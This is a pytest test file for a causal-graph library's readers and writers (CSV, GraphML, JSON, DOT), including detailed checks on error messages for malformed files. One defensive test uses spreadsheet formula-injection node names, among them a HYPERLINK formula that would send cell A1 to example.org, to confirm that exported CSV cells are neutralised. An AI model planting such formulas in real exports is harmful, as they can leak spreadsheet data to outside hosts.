"""Graphs survive every format, whatever the variables are called, and a bad file says where it is bad."""

from __future__ import annotations

import csv
import json
import re

import networkx as nx
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra import numpy as hnp

from feddag.errors import FeddagError
from feddag.graphs import CausalGraph, read_graph, write_graph
from same_graphs import same

WEIRD = [
    "a,b",
    '"q"',
    "naïve 中文 🧪",
    " padded ",
    "back\\slash\\",
    "two\nlines",
    "<&'>;",
    "a\r\nb\tc",
    "source",
    "1",
    "=1+1",
    "-log p",
    "'@mail",
    "\t+",
]
ENDINGS = {"edges": ".edges.csv", "adjacency": ".csv", "graphml": ".graphml", "json": ".json"}

xml_text = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"], exclude_characters="\ufffe\uffff"),
    min_size=1,
)


@st.composite
def graphs(draw, names=xml_text) -> CausalGraph:
    drawn = draw(st.lists(names | st.sampled_from(WEIRD), unique=True, min_size=1, max_size=5))
    shape = (len(drawn), len(drawn))
    adjacency = draw(hnp.arrays(np.int8, shape, elements=st.integers(0, 1)))
    np.fill_diagonal(adjacency, 0)
    scores = draw(st.none() | hnp.arrays(np.float64, shape, elements=st.floats(-1e9, 1e9)))
    return CausalGraph(adjacency, drawn, scores)


def what_survives(graph: CausalGraph, file_format: str) -> CausalGraph:
    if graph.scores is None or file_format == "json":
        return graph
    if file_format == "adjacency" or not graph.adjacency.any():
        return CausalGraph(graph.adjacency, graph.names)
    return CausalGraph(graph.adjacency, graph.names, np.where(graph.adjacency, graph.scores, 0.0))


@pytest.mark.parametrize("file_format", ["edges", "adjacency"])
def test_no_name_becomes_a_formula_of_a_spreadsheet(tmp_path, file_format):
    graph = CausalGraph([[0, 1], [0, 0]], ['=HYPERLINK("http://example.org?"&A1)', "@SUM(A1:A9)"])
    path = tmp_path / f"graph{ENDINGS[file_format]}"
    write_graph(graph, path)
    with path.open(encoding="utf-8", newline="") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n"))]
    assert same(read_graph(path), graph)


@pytest.mark.parametrize("file_format", ENDINGS)
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
@given(graph=graphs())
def test_every_format_returns_the_graph_that_was_written(tmp_path, file_format, graph):
    path = tmp_path / f"graph{ENDINGS[file_format]}"
    write_graph(graph, path)
    names = graph.names if file_format == "edges" else None
    assert same(read_graph(path, names=names), what_survives(graph, file_format))


@pytest.mark.parametrize("file_format", ["edges", "adjacency", "json"])
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
@given(graph=graphs(names=st.text(min_size=1)))
def test_all_formats_but_xml_take_control_characters_in_names(tmp_path, file_format, graph):
    path = tmp_path / f"graph{ENDINGS[file_format]}"
    write_graph(graph, path)
    assert same(read_graph(path, names=graph.names), what_survives(graph, file_format))


def test_graphml_refuses_a_name_that_xml_cannot_hold_and_leaves_no_file(tmp_path):
    with pytest.raises(FeddagError, match=r"'a\\x00'"):
        write_graph(CausalGraph([[0]], ["a\0"]), tmp_path / "g.graphml")
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def fork() -> CausalGraph:
    """b <- a -> c, with d alone; b -- c undirected."""
    return CausalGraph(
        [[0, 1, 1, 0], [0, 0, 1, 0], [0, 1, 0, 0], [0, 0, 0, 0]],
        ["a", "b", "c", "d"],
        [[0, 0.9, 0.75, 0.1], [0, 0, 0.6, 0], [0, 0.55, 0, 0], [0, 0, 0, 0]],
    )


def test_an_edge_list_is_source_target_score(tmp_path, fork):
    write_graph(fork, tmp_path / "g.edges.csv")
    assert (tmp_path / "g.edges.csv").read_text() == "source,target,score\na,b,0.9\na,c,0.75\nb,c,0.6\nc,b,0.55\n"


def test_an_edge_list_knows_isolated_nodes_only_by_the_names_given(tmp_path, fork):
    path = tmp_path / "g.edges.csv"
    write_graph(fork, path)
    assert read_graph(path).names == ("a", "b", "c")
    assert read_graph(path, names=["d", "c", "b", "a"]).names == ("d", "c", "b", "a")


@pytest.mark.parametrize("file_format", ENDINGS)
def test_names_give_the_order_of_the_nodes(tmp_path, fork, file_format):
    path = tmp_path / f"g{ENDINGS[file_format]}"
    write_graph(fork, path)
    graph = read_graph(path, names=["d", "c", "b", "a"])
    assert graph.names == ("d", "c", "b", "a")
    assert same(graph.reordered(fork.names), what_survives(fork, file_format))


def test_an_adjacency_file_has_names_above_and_beside(tmp_path, fork):
    write_graph(fork, tmp_path / "g.csv")
    with open(tmp_path / "g.csv", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[0] == ["", "a", "b", "c", "d"]
    assert rows[1] == ["a", "0", "1", "1", "0"]


def test_graphml_and_json_are_what_networkx_reads(tmp_path, fork):
    write_graph(fork, tmp_path / "g.graphml")
    write_graph(fork, tmp_path / "g.json")
    document = json.loads((tmp_path / "g.json").read_text(encoding="utf-8"))
    for network in (nx.read_graphml(tmp_path / "g.graphml"), nx.node_link_graph(document, edges="edges")):
        assert network.is_directed()
        assert list(network.nodes.data()) == [(name, {}) for name in "abcd"]
        assert network.edges["a", "b"] == {"score": 0.9}
        assert set(network.edges) == set(fork.to_networkx().edges)


def test_dot_lists_nodes_and_edges_and_draws_no_head_on_an_undirected_edge(tmp_path, fork):
    write_graph(fork, tmp_path / "g.dot")
    lines = [line.strip() for line in (tmp_path / "g.dot").read_text().splitlines()]
    assert lines == [
        "digraph {",
        '"a";',
        '"b";',
        '"c";',
        '"d";',
        '"a" -> "b" [label="0.90"];',
        '"a" -> "c" [label="0.75"];',
        '"b" -> "c" [dir=none];',
        "}",
    ]


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
@given(graph=graphs())
def test_dot_quotes_names_so_that_they_can_be_told_apart_again(tmp_path, graph):
    write_graph(graph, tmp_path / "g.dot")
    text = (tmp_path / "g.dot").read_bytes().decode()
    quoted = r'"(?:[^"\\\n]|\\.)*"'
    statement = rf"  (?P<source>{quoted})(?: -> (?P<target>{quoted}))?(?: \[(?:dir=none|label={quoted})\])?;\n"
    assert re.fullmatch(
        rf"digraph {{\n(?:{statement.replace('?P<source>', '?:').replace('?P<target>', '?:')})*}}\n", text
    )

    def unquoted(word: str) -> str:
        return re.sub(r"\\(.)", lambda match: {"n": "\n"}.get(match[1], match[1]), word[1:-1])

    found = list(re.finditer(statement, text))
    assert [unquoted(m["source"]) for m in found if not m["target"]] == list(graph.names)
    arcs = {(unquoted(m["source"]), unquoted(m["target"])) for m in found if m["target"]}
    assert arcs == {*graph.edges, *graph.undirected_edges}


def test_an_explicit_format_overrules_the_file_name(tmp_path, fork):
    write_graph(fork, tmp_path / "truth.csv", format="edges")
    assert read_graph(tmp_path / "truth.csv", format="edges", names=fork.names).edges == fork.edges


def test_the_ending_is_read_in_any_case(tmp_path, fork):
    write_graph(fork, tmp_path / "G.JSON")
    assert same(read_graph(tmp_path / "G.JSON"), fork)


def test_a_failed_write_leaves_the_old_file(tmp_path, fork):
    path = tmp_path / "g.graphml"
    write_graph(fork, path)
    before = path.read_bytes()
    with pytest.raises(FeddagError):
        write_graph(CausalGraph([[0]], ["\0"]), path)
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    ("name", "content"),
    [("g.csv", b",a,b\r\na,0.0,1.0\r\nb,0,0\r\n\r\n"), ("g.edges.csv", b"source,target\r\na,b\r\n\r\n")],
)
def test_files_of_spreadsheets_and_data_frames_are_read(tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(b"\xef\xbb\xbf" + content)
    assert read_graph(path) == CausalGraph([[0, 1], [0, 0]], ["a", "b"])


def test_columns_of_an_edge_list_stand_in_any_order_beside_others(tmp_path):
    path = tmp_path / "g.edges.csv"
    path.write_text("note,target,source\nx,b,a\n")
    assert read_graph(path) == CausalGraph([[0, 1], [0, 0]], ["a", "b"])


def test_undirected_graphml_has_undirected_edges(tmp_path):
    nx.write_graphml(nx.Graph([("a", "b")]), tmp_path / "g.graphml")
    assert read_graph(tmp_path / "g.graphml").undirected_edges == [("a", "b")]


def test_node_link_data_needs_only_nodes_and_edges(tmp_path):
    path = tmp_path / "g.json"
    path.write_text('{"nodes": [{"id": "a"}, {"id": "b"}], "edges": [{"source": "a", "target": "b"}]}')
    assert read_graph(path) == CausalGraph([[0, 1], [0, 0]], ["a", "b"])


def test_an_edge_list_is_known_by_its_first_row(tmp_path):
    path = tmp_path / "edges.csv"
    path.write_text("source,target,score\na,b,0.5\n")
    assert read_graph(path, names=["b", "a", "c"]).edges == [("a", "b")]
    with pytest.raises(FeddagError, match="this is an edge list"):
        read_graph(path, format="adjacency")
    with pytest.raises(FeddagError, match=r"line 2, column 'target' has 'b', which is none of the variables: a, c\."):
        read_graph(path, names=["a", "c"])
    path.write_text(",source,target\nsource,0,1\ntarget,0,0\n")  # a matrix of variables of these names
    assert read_graph(path).edges == [("source", "target")]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("g.csv", "", "first row must be an empty cell and the names of the nodes. Got []"),
        ("g.csv", ",a,b\na,0,x\nb,0,0\n", "line 2, column 'b' has 'x'. Write a number"),
        ("g.csv", ",a,b\na,0,\nb,0,0\n", "line 2, column 'b' has ''"),
        ("g.csv", ",a,b\na,0,1\nb,0.4,0\n", "line 3, column 'a' has '0.4'. Write 1 for an edge, else 0"),
        ("g.csv", ",a,b\na,0,nan\nb,0,0\n", "line 2, column 'b' has 'nan'"),
        ("g.csv", ",a,b\nb,0,1\na,0,0\n", "line 2 is the row of 'b' where the first row has 'a'"),
        ("g.csv", ",a,b\na,0,1\n", "no row of 'b'"),
        ("g.csv", ",a\na,0\nb,0\n", "line 3 is the row of 'b' where the first row has None"),
        ("g.csv", ",a,b\na,0\nb,0,0\n", "line 2 has 1 entries for 2 columns"),
        ("g.csv", ",a,a\na,0,1\na,0,0\n", "must be unique"),
        ("g.csv", ",a\na,1\n", "'a' has an edge to itself"),
        ("g.csv", "source,target\n", "no edges, so it names no nodes. Give an adjacency matrix"),
        ("g.csv", ',a\n"' + "x" * 200_000, "not a CSV file"),
        ("g.edges.csv", "", "source and target. Got []"),
        ("g.edges.csv", "source,target\n", "no edges, so it names no nodes"),
        ("g.edges.csv", "from,to\na,b\n", "Got ['from', 'to']"),
        ("g.edges.csv", "source,target\na,b\nb\n", "line 3, column 'target' is empty"),
        ("g.edges.csv", "source,target\na,b\na,b\n", "line 3 repeats the edge 'a' -> 'b'"),
        ("g.edges.csv", "source,target\na,a\n", "'a' has an edge to itself"),
        ("g.edges.csv", "source,target,score\na,b,high\n", "line 2, column 'score' has 'high'"),
        ("g.edges.csv", "source,target,score\na,b\n", "line 2, column 'score' has ''"),
        ("g.edges.csv", "source,target,score\na,b,inf\n", "scores has inf"),
        ("g.graphml", "digraph {}", "not a GraphML file"),
        ("g.graphml", "<graphml/>", "not a GraphML file"),
        ("g.json", "{", "not JSON"),
        ("g.json", "[]", "not node-link data"),
        ("g.json", '{"nodes": [{"id": "a"}]}', "not node-link data (KeyError: 'edges')"),
        ("g.json", '{"nodes": [{"name": "a"}], "edges": []}', "not node-link data"),
        ("g.json", '{"graph": null, "nodes": [], "edges": []}', "not node-link data"),
        ("g.json", '{"nodes": [], "edges": []}', "at least one node"),
        ("g.json", '{"nodes": [{"id": 1}], "edges": []}', "Got 1 (int)"),
        ("g.json", '{"nodes": [{"id": "a"}, {"id": "a"}], "edges": []}', "disagree on ['a']"),
        (
            "g.json",
            '{"nodes": [{"id": "a"}], "edges": [{"source": "a", "target": "b"}]}',
            "disagree on ['b']",
        ),
        (
            "g.json",
            '{"graph": {"scores": [[1]]}, "nodes": [{"id": "a"}, {"id": "b"}], "edges": []}',
            "(1, 1) for 2 nodes",
        ),
    ],
)
def test_a_malformed_file_is_named_with_the_place_and_what_stands_there(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_text(content)
    with pytest.raises(FeddagError, match=re.escape(str(path)) + ".*" + re.escape(message)):
        read_graph(path)


def test_an_edge_to_an_unknown_node_is_refused_with_its_line(tmp_path):
    path = tmp_path / "g.edges.csv"
    path.write_text("source,target\na,b\na,bb\n")
    with pytest.raises(FeddagError, match="line 3, column 'target' has 'bb'"):
        read_graph(path, names=["a", "b"])


@pytest.mark.parametrize("file_format", ENDINGS)
def test_names_that_do_not_fit_the_file_are_refused(tmp_path, file_format):
    path = tmp_path / f"g{ENDINGS[file_format]}"
    write_graph(CausalGraph([[0, 1], [0, 0]], ["a", "b"]), path)
    with pytest.raises(FeddagError, match=re.escape(str(path)) + ".*'b'"):
        read_graph(path, names=["a", "c"])
    with pytest.raises(FeddagError, match="unique"):
        read_graph(path, names=["a", "b", "a"])


def test_a_file_that_is_not_utf_8_is_refused(tmp_path):
    (tmp_path / "g.csv").write_bytes(b",\xe9\n\xe9,0\n")
    with pytest.raises(FeddagError, match="byte 1 is not UTF-8"):
        read_graph(tmp_path / "g.csv")


def test_a_missing_file_and_a_directory_are_refused_by_name(tmp_path):
    with pytest.raises(FeddagError, match=r"absent\.json: there is no such file"):
        read_graph(tmp_path / "absent.json")
    (tmp_path / "folder.json").mkdir()
    with pytest.raises(FeddagError, match=r"folder\.json: the file cannot be read"):
        read_graph(tmp_path / "folder.json")


def test_an_unknown_ending_or_format_is_refused_with_the_known_ones(tmp_path, fork):
    with pytest.raises(FeddagError, match=r"g\.xlsx: .*\.edges\.csv.*or give format"):
        write_graph(fork, tmp_path / "g.xlsx")
    with pytest.raises(FeddagError, match=r"one of edges, adjacency, dot, graphml, json\. Got 'gml'"):
        write_graph(fork, tmp_path / "g.csv", format="gml")


def test_a_drawing_of_another_tool_is_refused(tmp_path):
    (tmp_path / "g.dot").write_text("strict graph { a -- b }")
    with pytest.raises(FeddagError, match=r"not a drawing that write_graph wrote. Use GraphML or JSON"):
        read_graph(tmp_path / "g.dot")
    (tmp_path / "g.dot").write_text('digraph {\n"a";\n"a" -> "b";\n}\n')
    with pytest.raises(FeddagError, match="names 'b', which is not among the nodes"):
        read_graph(tmp_path / "g.dot")
